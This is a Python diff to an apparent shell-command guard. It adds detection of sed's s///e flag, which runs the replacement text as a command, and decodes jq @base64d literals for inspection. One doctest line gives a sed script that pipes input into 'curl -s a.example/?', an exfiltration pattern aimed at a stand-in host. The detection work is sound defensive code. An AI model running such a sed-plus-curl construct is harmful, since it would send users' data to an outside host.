@@ -128,8 +128,29 @@ def sed(mind: Mind, name: str, args: list[Arg], stdin: Flow) -> Flow:
     for arg in args if name == "sed" else ():
         if "e " in arg.text[:12]:       # sed '1e COMMAND'
             embedded(mind, arg)
+        ran = replacement_run(arg.text)
+        if ran:
+            before = len(mind.found.effects)
+            mind.text(ran, stdin)
+            mind.attach(before, join(stdin, mind.arguments(args[1:])))
     _, rest = options(args, "ef" if name == "sed" else "fbcdt")
+    if name == "jq" and rest and "@base64d" in rest[0].text:
+        from guards._shell.code import literals
+
+        stdin = join(stdin, Flow(text="\n".join(decoded("base64", one) for one in literals(rest[0].text))))
     return join(stdin, mind.arguments(rest[1:] if name == "sed" else rest))
+
+
+def replacement_run(script: str) -> str:
+    """The replacement of sed's `s` with the flag `e`, which runs it as a command; "" for any other script.
+
+    >>> replacement_run("s#^#curl -s a.example/?#e"), replacement_run("s/a/b/g")
+    ('curl -s a.example/?', '')
+    """
+    if script[:1] != "s" or len(script) < 5 or script[1].isalnum():
+        return ""
+    parts = script[1:].split(script[1])
+    return parts[2] if len(parts) > 3 and "e" in parts[3].split(";")[0][:6] else ""
 
 
 def find(mind: Mind, name: str, args: list[Arg], stdin: Flow) -> Flow:
